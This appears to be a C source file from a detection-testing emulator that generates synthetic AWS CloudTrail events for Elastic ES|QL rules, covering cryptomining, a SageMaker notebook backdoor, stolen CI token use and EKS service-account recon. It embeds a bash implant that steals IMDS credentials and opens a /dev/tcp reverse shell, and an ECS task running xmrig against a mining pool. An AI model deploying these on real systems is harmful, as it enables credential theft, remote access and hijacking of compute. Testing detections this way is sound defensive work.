/* Attack stories written for Elastic's ES|QL rules (aggregations over
 * windows, comparisons between fields, decoded payloads): compute hijacking
 * for mining (service quota sweep, ECR repository opened, an ECS miner),
 * a SageMaker notebook backdoor, a GitHub Actions token used from outside
 * the CI network, and a Kubernetes service account's web identity turned to
 * recon and credential access. */
#include <string.h>

#include "emulate/emu.h"
#include "emulate/rules.h"

static void go(emu_ctx *c, emu_event *e, const char *step, const char *rules)
{
    emu_attack(c, e, step, rules);
}

static const char *const quota_regions[] = {
    "us-east-1",      "us-east-2",      "us-west-1",    "us-west-2",  "eu-west-1",
    "eu-west-2",      "eu-central-1",   "eu-north-1",   "ap-south-1", "ap-northeast-1",
    "ap-southeast-1", "ap-southeast-2", "ca-central-1", "sa-east-1"};

/* GetServiceQuota for the on-demand standard vCPU quota (ec2, L-1216C47A) in
 * `n` regions, all inside the 30-second bucket starting at `bucket`. */
void emu_quota_sweep(emu_ctx *c, const emu_actor *a, int64_t bucket, int n, bool attack,
                     const char *step)
{
    for (int i = 0; i < n; i++) {
        const char *region = quota_regions[i % 14];
        emu_event e = emu_ev(a, bucket + 400 + i * 1500 + th_rng_range(&c->rng, 0, 900),
                             "servicequotas.amazonaws.com", "GetServiceQuota", true,
                             "{\"serviceCode\":\"ec2\",\"quotaCode\":\"L-1216C47A\"}");
        e.region = region;
        e.response = emu_printf(
            c,
            "{\"quota\":{\"serviceCode\":\"ec2\",\"serviceName\":\"Amazon Elastic Compute Cloud "
            "(Amazon EC2)\",\"quotaArn\":\"arn:aws:servicequotas:%s:%s:ec2/L-1216C47A\","
            "\"quotaCode\":\"L-1216C47A\",\"quotaName\":\"Running On-Demand Standard (A, C, D, "
            "H, I, M, R, T, Z) instances\",\"value\":%d.0,\"unit\":\"None\",\"adjustable\":true,"
            "\"globalQuota\":false}}",
            region, a->account, i % 3 ? 640 : 1152);
        if (attack)
            go(c, &e, step, R_QUOTA_REGIONS);
        else
            emu_benign(c, &e, step);
    }
}

void emu_story_cryptomining(emu_ctx *c)
{
    const emu_world *w = c->w;
    int64_t t = emu_story_start(c);
    emu_actor a = emu_iam_user(c, 7, false); /* a service user's leaked long-term key */
    a.source = w->attacker_ip[1];
    a.agent = emu_keep(c, "%s", emu_ua_boto(c));
    emu_event e = emu_ev(&a, t, "sts.amazonaws.com", "GetCallerIdentity", true, NULL);
    go(c, &e, "whoami", R_GETCALLER);

    /* how many vCPUs can be started, region by region: 12 regions in 30 s */
    int64_t bucket = (t / 30000 + 1) * 30000;
    emu_quota_sweep(c, &a, bucket, 12, true, "vcpu-quota-sweep");
    t = bucket + 30000 + th_rng_range(&c->rng, 30, 180) * 1000;

    /* the company's image repository opened to anyone (images pulled from outside) */
    const char *repo = emu_keep(c, "%s/orders-api", w->org);
    e = emu_ev(&a, t, "ecr.amazonaws.com", "SetRepositoryPolicy", false,
               emu_printf(c,
                          "{\"repositoryName\":\"%s\",\"policyText\":\"{\\\"Version\\\": "
                          "\\\"2012-10-17\\\", \\\"Statement\\\": [{\\\"Sid\\\": \\\"pull\\\", "
                          "\\\"Effect\\\": \\\"Allow\\\", \\\"Principal\\\": \\\"*\\\", "
                          "\\\"Action\\\": [\\\"ecr:GetDownloadUrlForLayer\\\", "
                          "\\\"ecr:BatchGetImage\\\"]}]}\"}",
                          repo));
    e.response =
        emu_printf(c, "{\"registryId\":\"%s\",\"repositoryName\":\"%s\"}", w->account, repo);
    go(c, &e, "ecr-repository-public", R_ECR_PUBLIC);

    /* an ECS task definition running a public miner image on 16 vCPUs, then
     * started on Fargate */
    const char *fam = "node-health-check";
    t += th_rng_range(&c->rng, 60, 300) * 1000;
    e = emu_ev(&a, t, "ecs.amazonaws.com", "RegisterTaskDefinition", false,
               emu_printf(c,
                          "{\"family\":\"%s\",\"networkMode\":\"awsvpc\",\"containerDefinitions\":"
                          "[{\"name\":\"health\",\"image\":\"docker.io/metrixhub/xmrig:6.21.0\","
                          "\"cpu\":0,\"essential\":true,\"command\":[\"-o\",\"pool.supportxmr.com:"
                          "443\",\"--tls\",\"-u\",\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft"
                          "3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\"]}],"
                          "\"requiresCompatibilities\":[\"FARGATE\"],\"cpu\":\"16384\","
                          "\"memory\":\"32768\"}",
                          fam));
    e.response = emu_printf(
        c,
        "{\"taskDefinition\":{\"taskDefinitionArn\":\"arn:aws:ecs:us-east-1:%s:task-definition/"
        "%s:1\",\"family\":\"%s\",\"revision\":1,\"status\":\"ACTIVE\",\"cpu\":\"16384\","
        "\"memory\":\"32768\",\"networkMode\":\"awsvpc\"}}",
        w->account, fam, fam);
    go(c, &e, "register-miner-task", R_ECS_MINER);
    t += th_rng_range(&c->rng, 20, 90) * 1000;
    e = emu_ev(&a, t, "ecs.amazonaws.com", "RunTask", false,
               emu_printf(c,
                          "{\"cluster\":\"default\",\"count\":10,\"launchType\":\"FARGATE\","
                          "\"taskDefinition\":\"%s:1\",\"networkConfiguration\":"
                          "{\"awsvpcConfiguration\":{\"subnets\":[\"subnet-0%s\"],"
                          "\"assignPublicIp\":\"ENABLED\"}}}",
                          fam, emu_hex(c, 16)));
    e.response = emu_printf(
        c,
        "{\"tasks\":[{\"taskArn\":\"arn:aws:ecs:us-east-1:%s:task/default/%s\","
        "\"lastStatus\":\"PROVISIONING\",\"desiredStatus\":\"RUNNING\",\"cpu\":\"16384\"}],"
        "\"failures\":[]}",
        w->account, emu_hex(c, 32));
    go(c, &e, "run-miner-task", R_ECS_MINER);
}

/* The lifecycle script: IMDSv2 credentials of the notebook's role, then a
 * reverse shell to the attacker (%s) on every notebook start. */
#define IMPLANT                                                                                    \
    "#!/bin/bash\n"                                                                                \
    "set -e\n"                                                                                     \
    "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token "                              \
    "-H 'X-aws-ec2-metadata-token-ttl-seconds: 21600')\n"                                          \
    "curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" "                                             \
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ -o /tmp/.c\n"               \
    "nohup bash -c 'bash -i >& /dev/tcp/%s/443 0>&1' >/dev/null 2>&1 &\n"

void emu_story_sagemaker(emu_ctx *c)
{
    const emu_world *w = c->w;
    int64_t t = emu_story_start(c);
    emu_actor a = emu_role(c, emu_keep(c, "%s-analytics-readonly", w->org), "botocore-session-17",
                           w->attacker_ip[1], NULL);
    a.agent = emu_keep(c, "%s", emu_ua_boto(c));
    a.session_start = t - 1200000;
    emu_event e = emu_ev(&a, t, "sagemaker.amazonaws.com", "ListNotebookInstances", true, NULL);
    go(c, &e, "list-notebooks", NULL);
    t += th_rng_range(&c->rng, 20, 120) * 1000;
    e = emu_ev(&a, t, "iam.amazonaws.com", "ListRoles", true, NULL);
    go(c, &e, "list-roles", NULL);

    /* a lifecycle configuration that steals the notebook role's credentials
     * from IMDS and opens a reverse shell on every start */
    const char *cfg = "jupyter-env-setup";
    t += th_rng_range(&c->rng, 60, 300) * 1000;
    const char *script = emu_printf(c, IMPLANT, w->attacker_ip[0]);
    e = emu_ev(&a, t, "sagemaker.amazonaws.com", "CreateNotebookInstanceLifecycleConfig", false,
               emu_printf(c,
                          "{\"notebookInstanceLifecycleConfigName\":\"%s\",\"onStart\":"
                          "[{\"content\":\"%s\"}]}",
                          cfg, emu_base64(c, script)));
    e.response = emu_printf(c,
                            "{\"notebookInstanceLifecycleConfigArn\":\"arn:aws:sagemaker:us-east-"
                            "1:%s:notebook-instance-lifecycle-config/%s\"}",
                            w->account, cfg);
    go(c, &e, "lifecycle-config-implant", R_SM_LIFECYCLE);

    /* a notebook instance that runs it, passing the most privileged SageMaker
     * execution role: a principal that never passed that role before */
    t += th_rng_range(&c->rng, 20, 120) * 1000;
    const char *nb = "analytics-scratch";
    e = emu_ev(&a, t, "sagemaker.amazonaws.com", "CreateNotebookInstance", false,
               emu_printf(c,
                          "{\"notebookInstanceName\":\"%s\",\"instanceType\":\"ml.t3.medium\","
                          "\"roleArn\":\"arn:aws:iam::%s:role/%s-sagemaker-admin-execution\","
                          "\"lifecycleConfigName\":\"%s\",\"directInternetAccess\":\"Enabled\","
                          "\"volumeSizeInGB\":5,\"rootAccess\":\"Enabled\"}",
                          nb, w->account, w->org, cfg));
    e.response = emu_printf(c,
                            "{\"notebookInstanceArn\":\"arn:aws:sagemaker:us-east-1:%s:notebook-"
                            "instance/%s\"}",
                            w->account, nb);
    go(c, &e, "notebook-with-admin-role", R_SM_ROLE_PASSED);
}

const char *emu_gha_run(emu_ctx *c, int64_t t, const char *runner_ip, int reads)
{
    const emu_world *w = c->w;
    const char *provider = emu_keep(
        c, "arn:aws:iam::%s:oidc-provider/token.actions.githubusercontent.com", w->account);
    const char *sub = emu_keep(c, "repo:%s/platform:ref:refs/heads/main", w->org);
    const char *role = emu_keep(c, "%s-github-platform-deploy", w->org);
    static const char *const gha_ua =
        "aws-sdk-js/3.654.0 ua/2.1 os/linux#6.5.0-1025-azure lang/js md/nodejs#20.17.0 "
        "api/sts#3.654.0 configure-aws-credentials-for-github-actions";
    emu_actor gh = {0};
    gh.type = EMU_WEBIDENTITY;
    gh.account = w->account;
    gh.name = sub;
    gh.role = provider;
    gh.source = runner_ip;
    gh.agent = gha_ua;
    emu_event e = emu_ev(&gh, t, "sts.amazonaws.com", "AssumeRoleWithWebIdentity", true,
                         emu_printf(c,
                                    "{\"roleArn\":\"arn:aws:iam::%s:role/%s\",\"roleSessionName\":"
                                    "\"GitHubActions\",\"durationSeconds\":3600}",
                                    w->account, role));
    emu_actor a = emu_role(c, role, "GitHubActions", runner_ip, gha_ua);
    const char *key = a.access_key;
    e.response = emu_printf(
        c,
        "{\"credentials\":{\"accessKeyId\":\"%s\",\"sessionToken\":\"IQoJb3JpZ2luX2VjE%s\","
        "\"expiration\":\"%s\"},\"subjectFromWebIdentityToken\":\"%s\",\"assumedRoleUser\":"
        "{\"assumedRoleId\":\"%s:GitHubActions\",\"arn\":\"arn:aws:sts::%s:assumed-role/"
        "%s/GitHubActions\"},\"provider\":\"%s\",\"audience\":\"sts.amazonaws.com\"}",
        key, emu_hex(c, 24), emu_aws_date(c, t + 3600000), sub, a.uid, w->account, role, provider);
    emu_benign(c, &e, "gha-oidc-assume-role");
    a.session_start = t;
    t += th_rng_range(&c->rng, 1, 3) * 1000;
    e = emu_ev(&a, t, "sts.amazonaws.com", "GetCallerIdentity", true, NULL);
    emu_benign(c, &e, "gha-validate-credentials");
    static const char *const tf[][3] = {
        {"iam.amazonaws.com", "GetRole", "iam#1.34.3"},
        {"iam.amazonaws.com", "ListRolePolicies", "iam#1.34.3"},
        {"ec2.amazonaws.com", "DescribeVpcs", "ec2#1.177.3"},
        {"ec2.amazonaws.com", "DescribeSecurityGroups", "ec2#1.177.3"},
        {"ec2.amazonaws.com", "DescribeSubnets", "ec2#1.177.3"},
        {"lambda.amazonaws.com", "GetFunction20150331v2", "lambda#1.58.3"},
        {"ecs.amazonaws.com", "DescribeServices", "ecs#1.45.2"},
        {"elasticloadbalancing.amazonaws.com", "DescribeLoadBalancers",
         "elasticloadbalancingv2#1.38.0"},
        {"logs.amazonaws.com", "DescribeLogGroups", "cloudwatchlogs#1.37.0"},
        {"route53.amazonaws.com", "ListResourceRecordSets", "route53#1.43.1"},
        {"acm.amazonaws.com", "DescribeCertificate", "acm#1.28.5"},
        {"kms.amazonaws.com", "DescribeKey", "kms#1.35.5"}};
    for (int i = 0; i < reads; i++) {
        t += th_rng_range(&c->rng, 1, 6) * 1000;
        a.agent = emu_ua_terraform(c, tf[i % 12][2]);
        e = emu_ev(&a, t, tf[i % 12][0], tf[i % 12][1], true, NULL);
        emu_benign(c, &e, "terraform-plan");
    }
    return key;
}

void emu_story_ci_token_theft(emu_ctx *c)
{
    const emu_world *w = c->w;
    int64_t t = emu_story_start(c);
    /* a week of the deploy role's runs from GitHub's hosted runners (cloud
     * networks), six a day, 13 calls each: the history the rare-network rule
     * compares with (the 5 calls below must stay within 1% of the week) */
    int64_t from = t - 7 * 86400000LL;
    if (from < w->start)
        from = w->start;
    for (int64_t d = from; d + 86400000LL <= t; d += 86400000LL)
        for (int r = 0; r < 6; r++)
            emu_gha_run(c, d + (7 + r * 2) * 3600000LL + th_rng_range(&c->rng, 0, 3000) * 1000,
                        w->ci_ip[r % 3], 12);
    /* the run whose credentials a poisoned build step sends out... */
    const char *key = emu_gha_run(c, t, w->ci_ip[0], 12);
    /* ...used minutes later from a residential network */
    emu_actor x = emu_role(c, emu_keep(c, "%s-github-platform-deploy", w->org), "GitHubActions",
                           w->attacker_ip[0], emu_keep(c, "%s", emu_ua_boto(c)));
    x.access_key = key;
    x.session_start = t;
    t += th_rng_range(&c->rng, 300, 1500) * 1000;
    static const char *const use[][3] = {{"sts.amazonaws.com", "GetCallerIdentity", NULL},
                                         {"s3.amazonaws.com", "ListBuckets", NULL},
                                         {"secretsmanager.amazonaws.com", "ListSecrets", NULL},
                                         {"secretsmanager.amazonaws.com", "GetSecretValue", "1"},
                                         {"secretsmanager.amazonaws.com", "GetSecretValue", "2"}};
    for (int i = 0; i < 5; i++) {
        emu_event e = emu_ev(
            &x, t, use[i][0], use[i][1], true,
            use[i][2] ? emu_printf(c, "{\"secretId\":\"%s\"}", w->secrets[use[i][2][0] - '0'])
                      : NULL);
        if (i == 1)
            e.tls_host = "s3.amazonaws.com";
        /* the role's first secret read: the new-terms secret rule too */
        go(c, &e, "stolen-ci-token-use",
           i == 3 ? R_GHA_KEY_ELSEWHERE "," R_RARE_ASN "," R_SECRET_NEW
                  : R_GHA_KEY_ELSEWHERE "," R_RARE_ASN);
        t += th_rng_range(&c->rng, 3, 40) * 1000;
    }
}

/* A pod's service account exchanging its projected token for the IRSA role's
 * credentials. Returns the issued key. */
const char *emu_irsa_assume(emu_ctx *c, int64_t t, const char *sa, const char *role, const char *ip,
                            bool attack)
{
    const emu_world *w = c->w;
    const char *provider =
        emu_keep(c, "arn:aws:iam::%s:oidc-provider/oidc.eks.us-east-1.amazonaws.com/id/%s",
                 w->account, "B2F7C3E81D5A64E09C4F1A7D3E6B9C20");
    emu_actor p = {0};
    p.type = EMU_WEBIDENTITY;
    p.account = w->account;
    p.name = sa;
    p.role = provider;
    p.source = ip;
    p.agent = "Boto3/1.35.50 md/Botocore#1.35.50 ua/2.0 os/linux#5.10.225-213.878.amzn2.x86_64 "
              "md/arch#x86_64 lang/python#3.12.7 md/pyimpl#CPython cfg/retry-mode#legacy "
              "Botocore/1.35.50";
    const char *session = emu_keep(c, "botocore-session-%lld", (long long)(t / 1000));
    emu_event e = emu_ev(&p, t, "sts.amazonaws.com", "AssumeRoleWithWebIdentity", true,
                         emu_printf(c,
                                    "{\"roleArn\":\"arn:aws:iam::%s:role/%s\",\"roleSessionName\":"
                                    "\"%s\"}",
                                    w->account, role, session));
    emu_actor issued = emu_role(c, role, session, ip, NULL);
    const char *key = issued.access_key;
    e.response = emu_printf(
        c,
        "{\"credentials\":{\"accessKeyId\":\"%s\",\"sessionToken\":\"IQoJb3JpZ2luX2VjE%s\","
        "\"expiration\":\"%s\"},\"subjectFromWebIdentityToken\":\"%s\",\"assumedRoleUser\":"
        "{\"assumedRoleId\":\"%s:%s\",\"arn\":\"arn:aws:sts::%s:assumed-role/%s/%s\"},"
        "\"provider\":\"%s\",\"audience\":\"sts.amazonaws.com\"}",
        key, emu_hex(c, 24), emu_aws_date(c, t + 3600000), sa, issued.uid, session, w->account,
        role, session, provider);
    if (attack)
        go(c, &e, "irsa-assume-role", R_K8S_WEB_IDENTITY);
    else
        emu_benign(c, &e, "irsa-assume-role");
    return key;
}

void emu_story_eks_irsa(emu_ctx *c)
{
    const emu_world *w = c->w;
    int64_t t = emu_story_start(c);
    /* a shell in the orders-api pod (an exploited dependency): the pod's token
     * from /var/run/secrets/eks.amazonaws.com/serviceaccount/token */
    const char *role = emu_keep(c, "%s-orders-api-irsa", w->org);
    const char *key =
        emu_irsa_assume(c, t, "system:serviceaccount:orders:orders-api", role, w->nat_ip[0], true);
    emu_actor a = emu_role(c, role, emu_keep(c, "botocore-session-%lld", (long long)(t / 1000)),
                           w->nat_ip[0], NULL);
    a.access_key = key;
    a.session_start = t;
    static const char *const steps[][3] = {
        {"sts.amazonaws.com", "GetCallerIdentity", "sts.get-caller-identity"},
        {"s3.amazonaws.com", "ListBuckets", "s3api.list-buckets"},
        {"iam.amazonaws.com", "ListRoles", "iam.list-roles"},
        {"ec2.amazonaws.com", "DescribeInstances", "ec2.describe-instances"},
        {"secretsmanager.amazonaws.com", "ListSecrets", "secretsmanager.list-secrets"},
        {"secretsmanager.amazonaws.com", "GetSecretValue", "secretsmanager.get-secret-value"}};
    for (int i = 0; i < 6; i++) {
        t += th_rng_range(&c->rng, 5, 90) * 1000;
        /* the CLI the attacker installed in the pod's (Amazon Linux) image */
        a.agent = emu_printf(c,
                             "aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux#5.10.225-213.878."
                             "amzn2.x86_64 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython "
                             "cfg/retry-mode#standard md/installer#exe md/distrib#amzn.2 "
                             "md/prompt#off md/command#%s",
                             steps[i][2]);
        emu_event e = emu_ev(&a, t, steps[i][0], steps[i][1], true,
                             i == 5 ? emu_printf(c, "{\"secretId\":\"%s\"}", w->secrets[0]) : NULL);
        if (i == 1)
            e.tls_host = "s3.amazonaws.com";
        if (i == 2) {
            e.error_code = "AccessDenied";
            e.error_message = emu_denied(c, &a, "iam:ListRoles",
                                         emu_printf(c, "arn:aws:iam::%s:role/", w->account));
        }
        /* the rule counts actions whatever their outcome: the denied one too */
        go(c, &e, i == 2 ? "irsa-recon-denied" : "irsa-recon-and-secrets",
           i == 5 ? R_K8S_WEB_IDENTITY "," R_SECRET_NEW : R_K8S_WEB_IDENTITY);
    }
}
